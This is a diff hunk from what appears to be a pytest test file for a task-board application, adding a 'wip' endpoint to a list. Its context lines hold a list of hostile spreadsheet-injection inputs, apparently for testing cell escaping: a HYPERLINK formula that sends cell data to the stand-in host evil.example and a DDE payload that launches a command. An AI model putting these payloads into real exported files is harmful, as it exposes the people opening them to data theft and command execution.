@@ -13,7 +13,7 @@ import pytest
 from boards.admission import task_move
 from common.renderers import spreadsheet_cell
 
-ENDPOINTS = ["cfd", "cycle-times", "throughput", "aging", "limits", "queues"]
+ENDPOINTS = ["cfd", "wip", "cycle-times", "throughput", "aging", "limits", "queues"]
 HOSTILE = [
     '=HYPERLINK("https://evil.example/?"&A1,"Click")',
     "+1+cmd|' /C calc'!A0",
